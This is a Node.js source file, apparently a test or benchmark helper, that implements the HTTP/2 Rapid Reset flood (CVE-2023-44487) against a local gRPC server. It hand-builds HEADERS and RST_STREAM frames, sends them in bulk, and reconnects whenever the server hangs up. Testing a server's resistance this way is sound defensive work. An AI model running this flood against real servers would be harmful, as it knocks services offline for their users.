// Opens calls and takes them back at once (CVE-2023-44487), as fast as one thread can write, connecting again whenever
// the server hangs up. Runs as a worker thread, so that the measuring thread stays free.
import { connect } from "node:net";
import { fileURLToPath } from "node:url";
import { isMainThread, parentPort, Worker, workerData } from "node:worker_threads";

const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const END_HEADERS = 0x4;
const CANCEL = 0x8;
const PAIRS_PER_WRITE = 100;
const PATH = "/grpc.health.v1.Health/Watch";

/** Attacks for so long and resolves with how many calls were opened over how many connections. */
export function resetRapidly(server, { forMs }) {
  const worker = new Worker(fileURLToPath(import.meta.url), { workerData: { grpcUrl: server.grpcUrl, forMs } });
  return new Promise((resolve, reject) => {
    worker.once("message", resolve);
    worker.once("error", reject);
  });
}

if (!isMainThread && workerData?.grpcUrl) await attack(workerData);

async function attack({ grpcUrl, forMs }) {
  const until = performance.now() + forMs;
  const port = Number(new URL(grpcUrl).port);
  let calls = 0;
  let connections = 0;
  while (performance.now() < until) {
    connections++;
    calls += await flood(port, until);
  }
  parentPort.postMessage({ connections, calls, callsPerSecond: Math.round((calls / forMs) * 1_000) });
}

/** One connection, until it is closed or the time is over. */
async function flood(port, until) {
  const socket = connect(port, "127.0.0.1");
  let alive = true;
  socket.on("error", () => {});
  socket.on("close", () => {
    alive = false;
  });
  socket.resume();
  socket.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]));
  const block = headerBlock();
  let calls = 0;
  for (let id = 1; alive && performance.now() < until && id < 2 ** 30; id += 2 * PAIRS_PER_WRITE) {
    const pairs = [];
    for (let at = id; at < id + 2 * PAIRS_PER_WRITE; at += 2) {
      pairs.push(frame(HEADERS, END_HEADERS, at, block), frame(RST_STREAM, 0, at, Buffer.from([0, 0, 0, CANCEL])));
    }
    calls += PAIRS_PER_WRITE;
    if (socket.write(Buffer.concat(pairs))) await new Promise(setImmediate);
    else await Promise.race([once(socket, "drain"), once(socket, "close")]);
  }
  socket.destroy();
  return calls;
}

function once(socket, event) {
  return new Promise((resolve) => socket.once(event, resolve));
}

/** HPACK with neither table nor Huffman: `:method POST`, `:scheme http`, then literals by the names' static indices. */
function headerBlock() {
  const literal = (nameIndex, value) => [...nameIndex, value.length, ...Buffer.from(value)];
  return Buffer.from([
    0x83,
    0x86,
    ...literal([4], PATH),
    ...literal([1], "x"),
    ...literal([0x0f, 16], "application/grpc"),
  ]);
}

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
